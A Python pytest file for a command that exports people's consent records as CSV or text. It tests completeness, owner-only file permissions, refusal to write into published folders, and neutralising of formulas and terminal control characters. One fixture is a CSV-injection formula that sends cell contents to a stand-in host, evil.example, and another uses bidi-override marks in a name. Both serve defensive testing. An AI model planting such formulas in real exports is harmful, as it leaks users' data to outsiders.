"""The list of consents: complete, safe to open, and never where it would be published."""

from __future__ import annotations

import csv
import io
import stat
from pathlib import Path

import pytest
from factory import CONSENT, TODAY, Run, Site
from hypothesis import given
from hypothesis import strategies as st

from experts import settings
from experts.consents.command import refuse
from experts.consents.sheet import cell
from experts.problems import Problems

FORMULA = '=HYPERLINK("https://evil.example/?"&A1)'


def consents(site: Site, *options: str) -> Run:
    """Run the command."""
    return site.checkout.run("consents", "--site", str(site.folder), "--today", TODAY, "--lang", "en", *options)


def rows(text: str) -> dict[str, dict[str, str]]:
    """The rows of CSV by short name."""
    return {row["short_name"]: row for row in csv.DictReader(io.StringIO(text, newline=""))}


@pytest.fixture
def signed(site: Site) -> Site:
    """Return a site of people who have agreed to this and that."""
    for version, day in (("2025-1", "2025-01-01"), ("2026-1", "2026-01-01")):
        site.page(f"consent-{version}", "Consent", "Text.", Consent=version, Date=day)
    site.profile("mara", consent={**CONSENT, "until": "2026-12-24"})
    site.profile("jonas", consent={**CONSENT, "text": "2025-1"})
    site.profile("zoe", consent={**CONSENT, "withdrawn": True})
    site.profile("kim", status="left")
    site.profile("noah", consent=None)
    return site


def test_everybody_is_listed(signed: Site) -> None:
    """What was given, until when, to which text of which day, whether it must be asked for anew, and why somebody is not shown."""
    run = consents(signed, "--format", "csv")
    assert run.code == 0
    found = rows(run.out)
    assert found.keys() == {"mara", "jonas", "ida", "zoe", "kim", "noah"}
    mara, jonas, zoe = found["mara"], found["jonas"], found["zoe"]
    assert (mara["given"], mara["until"], mara["text"], mara["text_date"]) == (
        "2026-05-01",
        "2026-12-24",
        "2026-1",
        "2026-01-01",
    )
    assert [mara[channel] for channel in ("site", "feeds", "press-kit")] == ["yes", "yes", "no"]
    assert (mara["renewal"], mara["renewal_by"], mara["hidden_because"]) == ("due", "2026-12-24", "")
    assert (jonas["renewal"], jonas["renewal_by"]) == ("overdue", "2026-04-01")
    assert (zoe["withdrawn"], zoe["renewal"], zoe["hidden_because"]) == ("yes", "no", "has withdrawn consent")
    assert (found["kim"]["hidden_because"], found["noah"]["hidden_because"]) == ("has left", "has not given consent")
    assert (found["noah"]["kept_here"], found["ida"]["renewal"]) == ("no", "no")
    lines = consents(signed).out.splitlines()
    assert len(lines) == 7
    assert [line.split("  ")[-1].strip() for line in lines if line.startswith("Zoe Tester (zoe)")] == [
        "has withdrawn consent"
    ]
    assert "all but press-kit" in next(line for line in lines if "(mara)" in line)


def test_consent_that_is_kept_elsewhere(signed: Site) -> None:
    """Where the site says so, who has none here counts as shown, and the list says that it is not here."""
    signed.settings(CONSENT="elsewhere")
    noah = rows(consents(signed, "--format", "csv").out)["noah"]
    assert (noah["hidden_because"], noah["kept_here"]) == ("", "no")
    assert "kept elsewhere" in consents(signed).out


def test_profiles_that_cannot_be_read_are_named(signed: Site) -> None:
    """Whoever has no row because of a mistake is named, and the command fails."""
    signed.profile("mara", consent={"given": "yesterday"})
    run = consents(signed, "--format", "csv")
    assert run.code == 1
    assert "profiles/mara/profile.md:" in run.err
    assert "mara" not in rows(run.out)
    assert "jonas" in rows(run.out)


def test_nothing_in_it_is_a_formula(signed: Site) -> None:
    """Names and versions are whatever somebody writes; a spreadsheet must not compute them."""
    signed.profile("mara", name=FORMULA, consent={**CONSENT, "text": "2026-1"})
    signed.profile("ida", name="Ida;=1+1")
    found = rows(consents(signed, "--format", "csv").out)
    assert found["mara"]["name"] == f"'{FORMULA}"
    assert found["ida"]["name"] == "Ida;'=1+1"


@given(st.text(st.sampled_from("=+-@\t\r\n ;,|\"'aÄ＝\x1b\u202e"), max_size=12))
def test_no_cell_begins_with_a_sign_of_formulas(text: str) -> None:
    """Neither a cell nor what another program takes for one, whatever stands before the sign; and nothing is lost but controls."""
    found = cell(text)
    assert found.isprintable()
    for part in found.replace(",", ";").replace("|", ";").split(";"):
        assert part.strip(" \"'")[:1] not in set("=+-@＝") or "'" in part.partition(part.strip(" \"'")[:1])[0]
    assert [char for char in found if char not in " '"] == [
        char for char in text if char.isprintable() and char not in " '"
    ]


def test_the_terminal_is_not_commanded(signed: Site) -> None:
    """What cannot be seen in a name is written out: escapes, and marks that turn the direction of text."""
    signed.profile("mara", name="Mara \u2067evil\u2066")
    run = consents(signed)
    assert "\u2067" not in run.out
    assert "\\u2067" in run.out


def test_the_file_is_for_nobody_else(signed: Site, tmp_path: Path) -> None:
    """It is written where it was asked for, whole, readable for its owner alone; nothing goes to the output."""
    file = tmp_path / "consents.csv"
    file.write_text("old")
    file.chmod(0o644)
    run = consents(signed, "--format", "csv", "--output", str(file))
    assert (run.code, run.out) == (0, "")
    assert "mara" in rows(file.read_bytes().decode())
    assert stat.S_IMODE(file.stat().st_mode) == 0o600
    assert not signed.output.exists()
    assert [path.name for path in tmp_path.iterdir() if path.name.endswith(".tmp")] == []


def test_it_is_never_written_where_it_would_be_published(signed: Site, tmp_path: Path) -> None:
    """Not into profiles, content or an output folder, wherever that is, nor through a link into one of them."""
    signed.built()
    (tmp_path / "way").symlink_to(signed.path("content/images"))
    (tmp_path / "link.csv").symlink_to(signed.output / "consents.csv")
    places = [
        signed.path("content/images/consents.csv"),
        signed.path("profiles/mara/consents.csv"),
        signed.path("output/consents.csv"),
        signed.output / "experts/consents.csv",
        tmp_path / "way/consents.csv",
        tmp_path / "link.csv",
        signed.checkout.folder / "theme/static/consents.csv",
    ]
    loaded = settings.load(str(signed.checkout.folder), str(signed.folder))
    for place in places[1:]:
        with pytest.raises(Problems) as caught:
            refuse(str(place), loaded)
        assert caught.value.problems[0].message == "what lies here is published: {path}", place
    run = consents(signed, "--format", "csv", "--output", str(places[0]))
    assert (run.code, run.out) == (1, "")
    assert "what lies here is published" in run.err
    assert not places[0].exists()
    refuse(str(tmp_path / "consents.csv"), loaded)
